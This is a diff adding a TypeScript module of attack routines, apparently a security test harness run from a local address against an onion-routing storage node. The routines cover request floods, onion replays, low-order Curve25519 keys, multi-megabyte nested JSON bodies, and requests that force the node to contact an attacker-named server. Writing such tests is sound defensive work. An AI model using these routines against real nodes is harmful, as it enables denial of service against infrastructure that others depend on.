@@ -1,0 +1,118 @@
+import { randomBytes } from 'node:crypto';
+import { Pool } from 'undici';
+import { nativePrimitives } from '#platform';
+import { buildOnion, joinPayload } from '#protocol';
+import { Tally, workers, type Attack, type Target } from './attack.js';
+
+/** One address for a whole attack: what a single source may do is the question. */
+const SOURCE = '127.0.0.5';
+const ONION = '/onion_req/v2';
+const RPC = '/storage_rpc/v1';
+/** A node that keeps a request longer than this has been stopped. */
+const ANSWER_MS = 20_000;
+
+interface Post {
+  readonly path: string;
+  readonly body: Uint8Array | string;
+}
+
+/** Posts what `next` makes, over kept-alive connections, and counts the statuses. */
+function posts(prepare: (target: Target) => () => Post): Attack {
+  return async (target, stopped) => {
+    const tally = new Tally();
+    const next = prepare(target);
+    const pool = new Pool(`https://${target.ip}:${target.httpsPort}`, {
+      connections: target.count,
+      connect: { rejectUnauthorized: false, localAddress: SOURCE },
+      headersTimeout: ANSWER_MS,
+    });
+    await workers(target, stopped, async () => {
+      const { path, body } = next();
+      try {
+        const answer = await pool.request({ method: 'POST', path, body });
+        const text = await answer.body.text();
+        tally.add(`status_${answer.statusCode}`);
+        if (text === 'Invalid ciphertext') tally.add('invalid_ciphertext');
+      } catch {
+        tally.add('no_answer'); // the case decides whether that may be
+      }
+      tally.add('requests');
+    });
+    await pool.destroy();
+    return tally.report;
+  };
+}
+
+const info = JSON.stringify({ method: 'info', params: {} });
+const primitives = nativePrimitives();
+
+/** As many cheap requests as a single source can send. */
+export const sourceFlood = posts(() => () => ({ path: RPC, body: info }));
+
+function finalOnion({ ed25519, x25519 }: Target, payload: Uint8Array): Uint8Array {
+  return buildOnion(primitives, randomBytes, { path: [], destination: { ed25519, x25519 }, payload }).body;
+}
+
+/** One onion, again and again. */
+export const replays = posts((target) => {
+  const body = finalOnion(target, Buffer.from(info));
+  return () => ({ path: ONION, body });
+});
+
+/**
+ * Points of small order and other spellings of them: with these as the other side's key, every secret would be known
+ * beforehand.
+ */
+const LOW_ORDER_KEYS = [
+  '00'.repeat(32),
+  `01${'00'.repeat(31)}`,
+  'e0eb7a7c3b41b8ae1656e3faf19fc46ada098deb9c32b1fd866205165f49b800',
+  '5f9c95bca3508c24b1d0b1559c83ef5b04445cc4581c8e86d8224eddd09f1157',
+  `ec${'ff'.repeat(30)}7f`,
+  `ed${'ff'.repeat(30)}7f`,
+  `ee${'ff'.repeat(30)}7f`,
+];
+const CIPHERS = ['xchacha20', 'aes-gcm', 'aes-cbc'];
+
+export const lowOrderKeys = posts(() => {
+  let count = 0;
+  return () => {
+    const key = LOW_ORDER_KEYS[count % LOW_ORDER_KEYS.length];
+    const cipher = CIPHERS[count % CIPHERS.length];
+    count += 1;
+    const control = JSON.stringify({ ephemeral_key: key, enc_type: cipher });
+    return { path: ONION, body: joinPayload(randomBytes(160), control) };
+  };
+});
+
+/** Deep and large texts at every place where a stranger's JSON is read. */
+export const deepJson = posts((target) => {
+  const deep = (bytes: number): string => '['.repeat(bytes / 2) + ']'.repeat(bytes / 2);
+  const wide = (bytes: number): string => `{${Array.from({ length: bytes / 12 }, (_, i) => `"k${i}":${i}`).join()}}`;
+  const rpc = (params: string): string => `{"method":"info","params":${params}}`;
+  const MiB = 1024 * 1024;
+  const variants: Post[] = [
+    { path: ONION, body: joinPayload(randomBytes(64), deep(15_000)) },
+    { path: ONION, body: joinPayload(randomBytes(64), deep(4 * MiB)) },
+    { path: ONION, body: finalOnion(target, Buffer.from(rpc(deep(2 * MiB)))) },
+    { path: ONION, body: finalOnion(target, Buffer.from(rpc(wide(2 * MiB)))) },
+    { path: RPC, body: rpc(deep(4 * MiB)) },
+    { path: RPC, body: rpc(wide(4 * MiB)) },
+    { path: RPC, body: `{"method":"batch","params":{"requests":${deep(MiB)}}}` },
+  ];
+  let count = 0;
+  return () => variants[count++ % variants.length] ?? { path: RPC, body: '' };
+});
+
+/** Calls to a server of the attacker's own, `more.server` (`host:port`). */
+export const outsideCalls = posts((target) => {
+  const [host = '', port = ''] = (target.more.server ?? '').split(':');
+  return () => ({
+    path: ONION,
+    body: buildOnion(primitives, randomBytes, {
+      path: [target],
+      destination: { host, port: Number(port), protocol: 'http', target: '/oxen/v4/lsrpc', x25519: target.x25519 },
+      payload: randomBytes(100),
+    }).body,
+  });
+});
